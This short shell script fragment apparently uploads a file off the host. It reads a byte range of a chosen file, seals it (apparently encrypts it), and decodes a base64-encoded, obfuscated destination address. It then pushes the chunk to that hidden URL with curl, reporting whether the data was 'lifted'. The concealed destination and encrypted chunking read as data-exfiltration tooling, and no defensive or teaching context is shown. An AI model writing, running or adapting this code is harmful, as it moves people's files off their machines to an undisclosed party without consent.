command -v curl >/dev/null 2>&1 || { rb_say "unlifted the host has no curl, which puts into the bucket"; rb_end; }
tail -c +$((rb_from + 1)) "$c/$rb_which" | head -c $rb_most | rb_seal >"$c/up.$$"
rb_why=$(printf 'url = "%s"\n' "$(printf %s "$rb_address" | base64 -d | rb_open)" | curl -fsS --retry 3 -K - -T "$c/up.$$" -o /dev/null 2>&1) &&
  rb_say lifted || rb_say "unlifted curl on the host: $(printf %s "$rb_why" | head -n 1)"
rm -f "$c/up.$$"
rb_end
